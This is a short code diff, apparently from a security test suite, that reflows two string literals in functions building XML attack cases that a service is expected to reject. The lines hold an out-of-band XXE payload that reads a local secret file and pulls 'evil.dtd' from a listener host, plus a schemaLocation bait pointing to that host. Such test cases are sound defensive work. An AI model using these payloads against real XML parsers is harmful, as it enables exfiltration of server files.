@@ -91,7 +91,9 @@ export function xmlAttacks(listener: string, secretFile: string, idOf: (name: st
     xml(
       'parameter entities (out-of-band exfiltration)',
       notification(idOf('param'), {
-        dtd: `<!DOCTYPE notification [<!ENTITY % file SYSTEM "file://${secretFile}"><!ENTITY % remote SYSTEM "${listener}/evil.dtd">%remote;%send;]>`,
+        dtd:
+          `<!DOCTYPE notification [<!ENTITY % file SYSTEM "file://${secretFile}"><!ENTITY % remote ` +
+          `SYSTEM "${listener}/evil.dtd">%remote;%send;]>`,
         title: '&exfil;',
       }),
       400,
@@ -190,7 +192,9 @@ export function outboundBaits(
     {
       name: 'xsi:schemaLocation',
       id: idOf('schema-location'),
-      root: ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:talentlink-style:notification:1 ${listener}/schema.xsd"`,
+      root:
+        ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ` +
+        `xsi:schemaLocation="urn:talentlink-style:notification:1 ${listener}/schema.xsd"`,
     },
     { name: 'URLs as field values', id: idOf('url-values'), title: `${listener}/title` },
   ];
